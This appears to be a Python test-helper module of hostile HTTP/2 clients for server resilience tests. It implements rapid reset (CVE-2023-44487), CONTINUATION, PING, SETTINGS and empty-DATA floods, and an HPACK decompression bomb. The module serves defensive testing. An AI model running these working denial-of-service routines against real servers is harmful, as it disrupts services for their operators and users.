"""Misbehaving HTTP/2 peers, each a function that drives a RawPeer (after its handshake).

Each one sends what a known attack sends and stops as soon as the server has closed the
connection (a send fails), so none of them can block a test for long. They return how many
units (frames, streams) they managed to send; the tests read the server's answer (GOAWAY,
RST_STREAM) from the peer.

`midway(sent)`, when given, is called once after `midway_at` units, with the attack still in
progress and its connection open: the tests check there that a normal client is served while
the attack is under way.
"""

from raw_peer import (ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame,
                      SettingsFrame)

CANCEL = 0x8


def _frames(*frames):
    return b"".join(f.serialize() for f in frames)


def _send_units(peer, make_batch, count, batch, midway=None, midway_at=None):
    """Sends `count` units in batches (make_batch(first, n) -> bytes); stops early when the
    server has closed the connection. Calls midway once after exactly midway_at units."""
    sent = 0
    while sent < count:
        n = min(batch, count - sent)
        if midway is not None and sent < midway_at:
            n = min(n, midway_at - sent)
        if not peer.try_send(make_batch(sent, n)):
            break
        sent += n
        if midway is not None and sent == midway_at:
            midway(sent)
    return sent


def rapid_reset(peer, streams, first_stream=1, path="/delay/60000", batch=100, **midway):
    """CVE-2023-44487: open a stream and cancel it at once, over and over."""
    def make(first, n):
        out = bytearray()
        for i in range(first, first + n):
            sid = first_stream + 2 * i
            out += _frames(peer.headers_frame(sid, path), RstStreamFrame(sid, error_code=CANCEL))
        return bytes(out)
    return _send_units(peer, make, streams, batch, **midway)


def continuation_flood(peer, frames, fragment_size, batch=256, **midway):
    """A HEADERS frame without END_HEADERS, then CONTINUATION frames that never end the block.
    The block starts with a valid request so every fragment after it is just more header
    bytes (a literal header value spread over all the frames)."""
    block = peer.request_block("/")
    if not peer.try_send(HeadersFrame(1, block, flags=["END_STREAM"]).serialize()):
        return 0
    one = ContinuationFrame(1, b"a" * fragment_size).serialize()
    return _send_units(peer, lambda _, n: one * n, frames, batch, **midway)


def ping_flood(peer, pings, batch=1000, **midway):
    """PINGs without ever reading the ACKs: the server's answers pile up."""
    one = PingFrame(0, opaque_data=b"12345678").serialize()
    return _send_units(peer, lambda _, n: one * n, pings, batch, **midway)


def settings_flood(peer, count, batch=500, **midway):
    """SETTINGS frames (each one must be ACKed) without reading the ACKs."""
    frame = SettingsFrame(0)
    frame.settings = {SettingsFrame.HEADER_TABLE_SIZE: 4096}
    one = frame.serialize()
    return _send_units(peer, lambda _, n: one * n, count, batch, **midway)


def empty_data_flood(peer, count, batch=500, **midway):
    """A POST whose body is nothing but empty DATA frames without END_STREAM."""
    if not peer.try_send(peer.headers_frame(1, "/echo", method="POST", end_stream=False).serialize()):
        return 0
    one = DataFrame(1, b"").serialize()
    return _send_units(peer, lambda _, n: one * n, count, batch, **midway)


def hpack_bomb(peer, references=16000, value_size=4000, midway=None):
    """One header block that is small on the wire and enormous decoded: a 4 KB field goes into
    the dynamic table, then one-byte references to it repeat (RFC 7541 §6.1). midway() runs
    after the HEADERS frame, before the CONTINUATION frames that complete the block."""
    block = peer.request_block("/")
    # Literal with incremental indexing, new name: it becomes dynamic index 62.
    block += peer.encoder.encode([("x-bomb", "b" * value_size)], huffman=False)
    block += bytes([0x80 | 62]) * references
    # Within the default SETTINGS_MAX_FRAME_SIZE: HEADERS, then CONTINUATION frames.
    pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    assert len(pieces) > 1, "the bomb must span a CONTINUATION frame"
    frames = [HeadersFrame(1, pieces[0], flags=["END_STREAM"])]
    frames += [ContinuationFrame(1, p) for p in pieces[1:]]
    frames[-1].flags.add("END_HEADERS")
    if not peer.try_send(frames[0].serialize()):
        return 0
    if midway is not None:
        midway(1)
    peer.try_send(_frames(*frames[1:]))
    return len(block)


def dribble_echo(peer, payload, batch=100, pause=0.002):
    """POST /echo whose body comes one byte per DATA frame, a batch at a time with small
    pauses, reading the echo as it goes. Keep payload under 64 KiB: the echo then fits our
    default stream window and no WINDOW_UPDATE is needed."""
    peer.request(1, "/echo", method="POST", end_stream=False)
    frames = [DataFrame(1, payload[i:i + 1]).serialize() for i in range(len(payload))]
    for start in range(0, len(frames), batch):
        if not peer.try_send(b"".join(frames[start:start + batch])):
            return False
        peer.read_until(lambda: False, timeout=pause)  # whatever echo came back meanwhile
    return peer.try_send(DataFrame(1, b"", flags=["END_STREAM"]).serialize())
